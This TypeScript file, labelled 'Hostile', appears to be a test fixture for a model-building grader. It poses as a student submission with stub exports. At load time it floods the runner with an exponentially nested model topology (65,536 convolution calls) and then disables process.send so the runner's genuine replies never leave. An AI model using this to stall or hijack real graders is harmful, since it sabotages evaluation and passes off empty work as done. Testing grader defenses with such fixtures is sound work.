// Hostile: at load time, before the grader's runner, sends for every build it is asked for a hand-made
// topology of functional models nested 8 deep (the deepest the grader accepts), each applying the model
// inside it 4 times: 4^8 = 65,536 calls of one 3×3 convolution once flattened, from 3 KB of JSON. Then it
// silences process.send so the runner's own replies never leave. Any exports work: this file serves as
// either student file.
const input = (name: string) => ({
  name,
  class_name: 'InputLayer',
  config: { name, batch_input_shape: [null, 8, 8, 4] },
  inbound_nodes: [],
});
let model: Record<string, unknown> = {
  class_name: 'Model',
  config: {
    name: 'leaf',
    layers: [
      input('leaf_in'),
      {
        name: 'conv',
        class_name: 'Conv2D',
        config: { name: 'conv', filters: 4, kernel_size: [3, 3], padding: 'same' },
        inbound_nodes: [[['leaf_in', 0, 0, {}]]],
      },
    ],
    input_layers: [['leaf_in', 0, 0]],
    output_layers: [['conv', 0, 0]],
  },
};
for (let level = 0; level < 8; level++) {
  const name = `level${level}`;
  // Four calls in a row; the model's calls are numbered from 1 (node 0 is its own).
  const calls = [0, 1, 2, 3].map((i) => [[i === 0 ? `${name}_in` : `${name}_m`, i, 0, {}]]);
  model = {
    class_name: 'Model',
    config: {
      name,
      layers: [input(`${name}_in`), { ...model, name: `${name}_m`, inbound_nodes: calls }],
      input_layers: [[`${name}_in`, 0, 0]],
      output_layers: [[`${name}_m`, 4, 0]],
    },
  };
}
const asked = JSON.parse(process.argv[2] ?? '[]') as Array<{ key: string }>;
for (const { key } of asked) process.send?.(JSON.stringify({ type: 'built', key, topology: model }));
process.send = () => true;

export function bottleneck(x: unknown): unknown {
  return x;
}
export function bottleneckResnet(): unknown {
  return undefined;
}
export function preactResidual(x: unknown): unknown {
  return x;
}
export function preactResnet18(): unknown {
  return undefined;
}
